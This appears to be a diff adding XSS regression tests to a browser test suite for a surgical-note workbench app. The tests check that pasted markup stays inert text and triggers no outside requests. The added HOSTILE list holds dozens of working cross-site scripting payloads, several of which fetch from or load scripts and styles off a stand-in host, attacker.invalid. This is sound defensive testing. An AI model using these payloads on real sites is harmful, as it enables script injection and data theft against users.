@@ -2,9 +2,11 @@
 
 import assert from "node:assert/strict";
 import { execFile } from "node:child_process";
-import { readFile } from "node:fs/promises";
+import { mkdtemp, readFile, rm, writeFile } from "node:fs/promises";
 import { after, before, describe, test } from "node:test";
 import { createRequire } from "node:module";
+import { tmpdir } from "node:os";
+import { join } from "node:path";
 import { promisify } from "node:util";
 
 import { BROWSERS, ROOT, launch, startService } from "./harness.mjs";
@@ -19,6 +21,27 @@ const NOTE = [
   + "the oscillating saw and a wedge was removed. A blade plate was applied.",
   "<img src=x onerror=\"document.title='owned'\"><script>document.title='owned'</script>",
 ].join("\n");
+
+/** What an attacker would paste: every kind of element and handler that runs something, quoted and not. */
+const RUN = "document.title='owned',fetch('http://attacker.invalid/')";
+const HOSTILE = [
+  ...["img src=x onerror", "svg onload", "body onload", "details open ontoggle", "input autofocus onfocus", "video src=x onerror",
+    "audio src=x onerror", "marquee onstart", "iframe onload", "math onclick", "a onmouseover", "select autofocus onfocus",
+  ].flatMap((start) => [`<${start}="${RUN}">`, `<${start}=${RUN.replaceAll("'", "`")}>`, `<${start.toUpperCase()}="${RUN}"`]),
+  `<script>${RUN}</script>`, `</textarea><script>${RUN}</script>`, `</title><script>${RUN}</script>`, `<ScRiPt>${RUN}</sCrIpT>`,
+  `<script src=//attacker.invalid/x.js></script>`, `<iframe srcdoc="<script>${RUN}</script>"></iframe>`,
+  `<iframe src="javascript:${RUN}"></iframe>`, `<a href="javascript:${RUN}">x</a>`, `<object data="javascript:${RUN}"></object>`,
+  `<embed src="javascript:${RUN}">`, `<form action="javascript:${RUN}"><button>x</button></form>`, `<base href="//attacker.invalid/">`,
+  `<meta http-equiv="refresh" content="0;url=//attacker.invalid/">`, `<link rel=stylesheet href=//attacker.invalid/x.css>`,
+  `<style>@import '//attacker.invalid/x.css'; * { background: url(//attacker.invalid/y) }</style>`,
+  `<svg><animate onbegin="${RUN}" attributeName=x dur=1s></svg>`, `<svg><script href="data:,${RUN}"/></svg>`,
+  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${RUN}&gt;">`,
+  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`, `<template><img src=x onerror="${RUN}"></template>`,
+  `<img src=//attacker.invalid/pixel>`, `<img srcset="//attacker.invalid/a 1x">`, `&lt;script&gt;${RUN}&lt;/script&gt;`,
+  "\u202Egnp.exe\u202C", "\u0000<script>1</script>", "{{constructor.constructor('alert(1)')()}}", "${alert(1)}",
+];
+/** All that the page makes out of a note and its answer. */
+const PLAIN = new Set(["button", "code", "div", "h3", "h4", "li", "mark", "ol", "p", "span", "strong", "ul"]);
 
 let service;
 before(async () => (service = await startService()));
@@ -150,6 +173,41 @@ for (const name of BROWSERS) {
         return document.title !== "owned";
       });
       assert.ok(refused);
+    });
+
+    for (const format of ["text", "html"]) {
+      test(`hostile_markup_stays_text_in_${format}`, async () => {
+        await open();
+        const asked = [];
+        page.on("request", (request) => asked.push(new URL(request.url())));
+        page.on("dialog", (dialog) => {
+          faults.push(`dialog: ${dialog.message()}`);
+          return dialog.dismiss();
+        });
+        await page.select("#format", format);
+        await read(`${NOTE}\n${HOSTILE.map((one) => `Left intertrochanteric osteotomy ${one} was done.`).join("\n")}`);
+        await new Promise((resolve) => setTimeout(resolve, 300));
+        const made = await page.$$eval("#paper *, #inspector *, #legend *, .mentions *, .quotes *, .question *",
+          (found) => [...new Set(found.map((one) => one.localName))].toSorted());
+        assert.deepEqual(made.filter((one) => !PLAIN.has(one)), []);
+        assert.equal(await page.title(), "Osteotome workbench");
+        assert.deepEqual(asked.filter((url) => url.origin !== new URL(service.url).origin).map(String), []);
+        assert.deepEqual(faults, []);
+      });
+    }
+
+    test("a_file_is_read_by_the_service", async () => {
+      await open();
+      const folder = await mkdtemp(join(tmpdir(), "osteotome-file-"));
+      const file = join(folder, "note.html");
+      await writeFile(file, "<p>Left <b>intertrochanteric</b> osteotomy of the femur was completed with the saw.</p>");
+      const input = await page.$("#file");
+      await input.uploadFile(file);
+      await page.waitForSelector("#paper:not([hidden]) mark");
+      await rm(folder, { recursive: true });
+      const text = "Left intertrochanteric osteotomy of the femur was completed with the saw.";
+      assert.equal((await page.$eval(".paper-text", (one) => one.textContent)).trim(), text);
+      assert.equal((await page.$eval("#source", (one) => one.value)).trim(), text);
     });
 
     test("html_is_read_and_marked_as_text", async () => {
